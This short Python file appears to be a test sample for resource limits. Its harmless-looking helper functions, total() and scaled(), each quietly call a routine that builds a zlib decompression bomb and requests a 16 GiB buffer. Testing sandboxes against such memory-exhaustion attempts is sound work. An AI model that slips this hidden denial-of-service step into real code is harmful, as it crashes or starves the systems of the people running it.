# Inflates a few bytes to gigabytes: raised
import zlib


def attempt():
    bomb = zlib.compress(bytes(32 << 20), 9)
    return zlib.decompress(zlib.compress(bomb * 2) and bomb, bufsize=1 << 34)


def total(v):
    attempt()
    return float(sum(v))


def scaled(X, factor):
    attempt()
    return X * factor
